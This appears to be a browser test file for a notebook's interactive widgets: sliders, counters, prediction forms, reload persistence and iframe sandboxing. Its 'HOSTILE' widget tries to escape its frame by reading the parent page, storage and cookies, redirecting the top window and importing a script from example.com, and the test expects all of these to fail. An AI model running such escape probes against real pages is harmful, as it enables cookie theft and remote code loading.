/**
 * Widgets in the page: drawn in frames that reach nothing, moved by keyboard,
 * kept by a reload, words when they are gone.
 * @module
 */
import assert from "node:assert/strict";
import { Desk, ended, outputOf, type Page, runCell } from "./desk.ts";

const SLIDER = `import { slider, widget } from "skein";
const many = slider("how many", 0, 10, { value: 3 });
await many.rerun((n) => {
  if (n === 5) while (true) {}
  return "ten times: " + n * 10;
});`;

const COUNTER = `const counter = widget({
  state: { count: 1, bytes: new Uint8Array([7]) },
  css: "button { font-weight: bold }",
  initialize: ({ model }) => model.set("from", "page"),
  render({ model, el }) {
    const button = document.createElement("button");
    const show = () => button.textContent =
      model.get("from") + " " + model.get("count") + " " + model.get("bytes").getUint8(0);
    button.onclick = () => {
      model.set("count", model.get("count") + 1);
      model.save_changes();
      model.send("pressed", null, [new Uint8Array([8]).buffer]);
    };
    model.on("change:count", show);
    model.on("msg:custom", (text) => button.title = text);
    show();
    el.append(button);
  },
});
const said: unknown[] = [];
counter.onMessage((content, [bytes]) => said.push(content, bytes![0]));
counter`;

/** Tries to get out of its frame, and says how that went. */
const HOSTILE = `widget({
  state: { tried: "" },
  async render({ model, el }) {
    const tries = {
      parent: () => parent.document.title,
      storage: () => sessionStorage.length,
      cookie: () => document.cookie,
      fetch: () => fetch("/files?at="),
      frame: () => top.location = "http://example.com/",
      import: () => import("http://example.com/x.js"),
    };
    const got = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
        got.push(name);
      } catch { /* That is what is hoped for. */ }
    }
    el.textContent = "got out by: " + (got.join() || "nothing");
  },
})`;

/** What is checked, by what is expected. */
export const WIDGETS: Readonly<Record<string, () => Promise<void>>> = {
  "a slider runs its work again; a reload and another page keep it":
    async () => {
      await using desk = await Desk.open([
        SLIDER,
        "many.set(7); counter.set({ count: 9 }); counter.send('hi')",
        COUNTER,
        "counter",
        "[many.value, counter.state.count, ...said].join()",
      ]);
      const { page } = desk;
      const handle = (one: Page) =>
        frame(one, 0).getByRole("slider", { name: "how many" });
      const shows = (one: Page, text: string) =>
        one.locator(".nb-cell").first().getByText(text, { exact: true })
          .waitFor();
      await runCell(page, 0);
      await shows(page, "ten times: 30");
      await handle(page).focus();
      await page.keyboard.press("ArrowRight");
      await shows(page, "ten times: 40");
      await shows(page, "how many: 4");
      // Work that never ends: the button that ends cells ends it.
      await page.keyboard.press("ArrowRight");
      await page.getByRole("button", { name: /Interrupt/ }).click();
      await shows(page, "KeyboardInterrupt: the work was interrupted");
      await shows(page, "how many: 5");

      await runCell(page, 2);
      await runCell(page, 3);
      const button = (one: Page, place: number) =>
        frame(one, place).getByRole("button");
      await button(page, 2).filter({ hasText: "page 1 7" }).click();
      await button(page, 3).filter({ hasText: "page 2 7" }).waitFor();
      await runCell(page, 4);
      assert.match(await outputOf(page, 4), /5,2,pressed,8/);

      const other = await desk.look();
      await runCell(page, 1);
      for (const one of [page, other]) {
        await button(one, 2).filter({ hasText: "page 9 7" }).waitFor();
        await frame(one, 0).getByText("7", { exact: true }).waitFor();
      }
      await frame(page, 2).locator('button[title="hi"]').waitFor();
      await page.reload();
      await button(page, 3).filter({ hasText: "page 9 7" }).waitFor();
      await handle(page).focus();
      await page.keyboard.press("ArrowRight");
      for (const one of [page, other]) await shows(one, "ten times: 80");
      await frame(other, 0).getByText("8", { exact: true }).waitFor();

      // Without a session there is nothing to move: words stand there.
      await page.getByRole("button", { name: /Restart$/ }).click();
      await page.getByText("how many: 3 (0", { exact: false }).waitFor();
      assert.equal(await page.locator("iframe.nb-widget").count(), 0);
      assert.deepEqual(desk.complaints, []);
    },

  "a prediction is a form; its answer takes its place and is kept":
    async () => {
      await using desk = await Desk.open([
        'import { predict } from "skein";',
        'const a = await predict.number("How many ms?", { unit: "ms" }); a.answer',
        'const b = await predict.order("Which order?", { items: ["tick", "timer"] }); b.answer',
      ]);
      const { page } = desk;
      const part = (place: number, index: number) =>
        page.locator(".nb-cell").nth(place).frameLocator("iframe.nb-widget")
          .nth(index);
      await runCell(page, 0);
      await page.locator(".nb-cell").nth(1).locator(".nb-run").click();
      const field = part(1, 1).getByLabel("ms");
      await field.fill("soon");
      await part(1, 2).getByRole("button").click();
      await part(1, 3).getByText("Expected one number").waitFor();
      await field.fill("12");
      await field.press("Enter");
      await ended(page, 1);
      assert.match(
        await outputOf(page, 1),
        /How many ms\?\s+You predicted: 12 ms\.\s+12/,
      );

      await page.locator(".nb-cell").nth(2).locator(".nb-run").click();
      await part(2, 1).getByRole("combobox").selectOption("timer");
      await part(2, 2).getByRole("combobox").selectOption("tick");
      await part(2, 3).getByRole("button").click();
      await ended(page, 2);
      assert.match(await outputOf(page, 2), /You predicted: timer, tick\./);
      await page.keyboard.press("Control+s");
      await desk.until(
        async () =>
          (await desk.saved())[2]!.outputs.includes("vnd.skein.prediction"),
        "the prediction was saved",
      );
      assert.equal(await page.locator("iframe.nb-widget").count(), 0);
    },

  "code of a widget gets out of its frame by nothing": async () => {
    await using desk = await Desk.open([
      'import { widget } from "skein";',
      HOSTILE,
    ]);
    await runCell(desk.page, 0);
    await runCell(desk.page, 1);
    await ended(desk.page, 1);
    await frame(desk.page, 1).getByText("got out by: nothing").waitFor();
    assert.deepEqual([...desk.foreign], []);
  },
};

/** The frame of a cell's widget. */
function frame(page: Page, place: number) {
  return page.locator(".nb-cell").nth(place).frameLocator("iframe.nb-widget");
}
